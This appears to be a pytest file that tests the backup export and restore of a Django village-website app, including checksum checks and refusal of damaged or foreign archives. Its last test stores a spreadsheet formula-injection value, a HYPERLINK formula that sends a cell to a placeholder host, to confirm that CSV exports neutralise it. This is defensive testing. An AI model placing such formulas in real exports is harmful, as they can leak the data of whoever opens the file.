"""A village's archive: export, restore into an emptied database, export again — the data files
are byte-for-byte equal; a damaged or foreign archive is refused and nothing is restored."""

from __future__ import annotations

import json
import zipfile

import pytest
from django.core.management import CommandError, call_command

from balai.audit.models import AuditEntry
from balai.backups.archive import village_archive_write
from balai.backups.restore import RestoreError, village_restore
from balai.backups.services import village_rows_purge
from balai.mentoring.services import help_reply_add, help_request_create
from balai.mentoring.tests.conftest import png_upload
from balai.villages.models import Official, Page, Village


@pytest.fixture
def demo_like(dagan, alice, bob, maya):
    Official.objects.create(village=dagan, name="Sugeng Riyadi", position="Kepala Desa")
    Official.objects.create(village=dagan, name="Siti Aminah", position="Sekretaris Desa", order=1)
    Page.objects.create(
        village=dagan, title="Kebijakan privasi", slug="kebijakan-privasi", body="Data aman."
    )
    request = help_request_create(
        village=dagan,
        author=alice,
        topic="news",
        message="Foto tidak muncul",
        images=[png_upload()],
    )
    help_reply_add(help_request=request, author=maya, role="mentor", message="Coba lagi", images=[])
    AuditEntry.objects.create(village=dagan, actor=alice, action="profile.update", target="dagan")
    return dagan


def _data_files(path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist() if n != "manifest.json"}


def test_export_restore_export_is_byte_for_byte_equal(demo_like, tmp_path):
    first, second = tmp_path / "1.zip", tmp_path / "2.zip"
    manifest = village_archive_write(village=demo_like, target=first)
    assert {"model": "mentoring.helprequest", "rows": 1}.items() <= next(
        m for m in manifest["models"] if m["model"] == "mentoring.helprequest"
    ).items()
    village_rows_purge(village=demo_like)
    assert not Village.objects.filter(slug="dagan").exists()
    restored = village_restore(path=str(first))
    assert restored.slug == "dagan" and restored.officials.count() == 2
    village_archive_write(village=restored, target=second)
    one, two = _data_files(first), _data_files(second)
    assert sorted(one) == sorted(two)
    assert [n for n in one if one[n] != two[n]] == []
    assert any(n.startswith("files/mentoring.helpattachment/") for n in one)


def test_the_manifest_lists_checksums_and_row_counts(demo_like, tmp_path):
    path = tmp_path / "a.zip"
    village_archive_write(village=demo_like, target=path)
    with zipfile.ZipFile(path) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        assert manifest["schema_version"] == 1
        assert set(manifest["files"]) == set(zf.namelist()) - {"manifest.json"}
        assert "data/villages.official.csv" in manifest["files"]


def _rewrite(src, dst, change):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for name in zin.namelist():
            zout.writestr(name, change(name, zin.read(name)))


def test_a_damaged_archive_is_refused_and_nothing_is_restored(demo_like, tmp_path):
    good, bad = tmp_path / "good.zip", tmp_path / "bad.zip"
    village_archive_write(village=demo_like, target=good)
    village_rows_purge(village=demo_like)
    _rewrite(good, bad, lambda n, b: b.replace(b"Sugeng", b"Sugeni") if "official" in n else b)
    with pytest.raises(CommandError, match="checksum"):
        call_command("village_restore", str(bad))
    assert not Village.objects.filter(slug="dagan").exists()
    assert not Official.objects.exists()


def test_a_truncated_file_or_a_foreign_zip_is_refused_with_a_reason(tmp_path):
    truncated = tmp_path / "t.zip"
    truncated.write_bytes(b"PK\x03\x04garbage")
    with pytest.raises(RestoreError, match="bukan arsip ZIP"):
        village_restore(path=str(truncated))
    foreign = tmp_path / "f.zip"
    with zipfile.ZipFile(foreign, "w") as zf:
        zf.writestr("foto.jpg", b"x")
    with pytest.raises(RestoreError, match="manifest.json"):
        village_restore(path=str(foreign))


def test_an_archive_for_a_village_that_exists_or_another_schema_is_refused(demo_like, tmp_path):
    good = tmp_path / "good.zip"
    village_archive_write(village=demo_like, target=good)
    with pytest.raises(RestoreError, match="sudah punya situs desa"):
        village_restore(path=str(good))
    newer = tmp_path / "newer.zip"

    def bump(name, data):
        if name != "manifest.json":
            return data
        manifest = json.loads(data)
        manifest["schema_version"] = 99
        return json.dumps(manifest).encode()

    _rewrite(good, newer, bump)
    with pytest.raises(RestoreError, match="Versi skema arsip 99"):
        village_restore(path=str(newer))


def test_an_admin_builds_and_downloads_the_archive_and_it_is_audited(login, alice, demo_like):
    from django.urls import reverse

    from balai.backups.models import VillageExport

    client = login(alice)
    client.post(reverse("backups_dashboard:backup_create", kwargs={"slug": "dagan"}))
    export = VillageExport.objects.get()
    assert export.status == "done" and export.size > 0
    page = client.get(reverse("backups_dashboard:backup", kwargs={"slug": "dagan"}))
    assert "Unduh arsip" in page.content.decode()
    response = client.get(
        reverse("backups_dashboard:backup_download", kwargs={"slug": "dagan", "pk": export.pk})
    )
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="cadangan-dagan-')
    # Residents' personal data: no browser or proxy cache may keep a copy.
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert b"".join(response.streaming_content)[:2] == b"PK"
    assert AuditEntry.objects.filter(action="village.export_download", actor=alice).exists()


def test_formulas_are_text_in_the_csv_copies_and_unchanged_in_the_json(dagan, tmp_path):
    formula = '=HYPERLINK("http://contoh.id/?"&A2,"Klik")'
    Official.objects.create(village=dagan, name=formula, position="@SUM(1+1)")
    first, second = tmp_path / "1.zip", tmp_path / "2.zip"
    village_archive_write(village=dagan, target=first)
    with zipfile.ZipFile(first) as zf:
        csv_text = zf.read("data/villages.official.csv").decode("utf-8-sig")
        rows = json.loads(zf.read("data/villages.official.json"))
    assert "'=HYPERLINK" in csv_text and "'@SUM(1+1)" in csv_text
    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
    assert rows[0]["name"] == formula and rows[0]["position"] == "@SUM(1+1)"
    village_rows_purge(village=dagan)
    restored = village_restore(path=str(first))
    assert restored.officials.get().name == formula
    village_archive_write(village=restored, target=second)
    one, two = _data_files(first), _data_files(second)
    assert [n for n in one if one[n] != two[n]] == []
